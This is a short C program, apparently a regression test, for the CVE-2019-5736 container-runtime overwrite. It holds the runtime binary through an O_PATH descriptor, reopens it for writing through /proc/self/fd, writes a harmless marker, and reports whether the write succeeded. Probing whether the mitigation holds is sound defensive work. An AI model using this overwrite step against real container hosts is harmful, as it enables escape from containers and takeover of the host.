/* The CVE-2019-5736 attack, host side: hold the runtime binary that a container
 * reached through /proc/<pid>/exe (an O_PATH descriptor), wait until no
 * launcher runs it any more (the file at argv[2] appears), then try to write
 * to it. Prints "write ok" or "write <errno name>". */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    if (argc != 3)
        return 2;
    int held = open(argv[1], O_PATH | O_CLOEXEC);
    if (held < 0) {
        printf("open %s\n", strerrorname_np(errno));
        return 1;
    }
    printf("held\n");
    fflush(stdout);
    for (int i = 0; i < 200 && access(argv[2], F_OK) < 0; i++)
        usleep(50000);
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", held);
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0 || write(fd, "\177ELF-overwritten", 16) != 16)
        printf("write %s\n", strerrorname_np(errno));
    else
        printf("write ok\n");
    return 0;
}
